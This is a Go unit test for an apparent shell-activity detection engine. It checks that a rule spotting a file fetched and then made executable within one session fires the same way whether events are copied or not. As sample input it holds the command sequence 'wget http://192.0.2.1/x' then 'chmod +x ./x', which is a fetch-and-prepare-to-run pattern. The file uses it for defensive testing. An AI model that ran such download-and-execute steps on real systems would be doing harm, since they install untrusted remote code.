package engine

import (
	"testing"

	"github.com/google/go-cmp/cmp"

	"ttpctl/internal/event"
)

// Events that stay as they are need not be copied for the stage, which finds the same
// in them as in copies, and nothing in what was derived from them.
func TestEventsThatStay(t *testing.T) {
	const rule = "  sequence: {over: session, within: {minutes: 90}, same: file, steps: [{effect: {fetches: any}}, {effect: {mode: {how: executable}}}]}"
	snap := NewSnapshot(compileRule(t, "command", rule), nil, testNow)
	run := func(stay, fanned bool) (tags []event.Tag) {
		sc := NewScratch()
		sc.EventsStay = stay
		for range 3 { // the third time all lines are known
			events := sessionOf("s", "cd /tmp", "wget http://192.0.2.1/x", "true", "chmod +x ./x")
			var room event.Event
			for i := range events {
				ev := &events[i]
				if fanned {
					ev = &room
					events[i].CloneTo(ev)
					ev.FannedOut = true
				}
				snap.Evaluate(nil, ev, testNow, sc)
			}
			seen := sc.TakeSightings(nil)
			for i := range seen {
				if ev := seen[i].ev; ev != nil && (ev == &events[i]) != (stay && !fanned) {
					t.Errorf("events stay %v, fanned out %v: sighting %d has a copy: %v", stay, fanned, i, ev != &events[i])
				}
				for _, f := range shellFields {
					if ev := seen[i].ev; ev != nil && ev.Value(f.id) != nil {
						t.Errorf("sighting %d shows %s, which the next event overwrites", i, f.id.Field().Name)
					}
				}
			}
			tags = append(tags, NewStage().Run(nil, seen)...)
		}
		return tags
	}
	want := run(false, false)
	if len(want) != 3 {
		t.Fatalf("the sequence fires %d times, want 3", len(want))
	}
	if diff := cmp.Diff(want, run(true, false)); diff != "" {
		t.Errorf("tags of events that stay differ (-copies +events):\n%s", diff)
	}
	if diff := cmp.Diff(run(false, true), run(true, true)); diff != "" {
		t.Errorf("tags of events that were fanned out differ (-copies +events):\n%s", diff)
	}
}
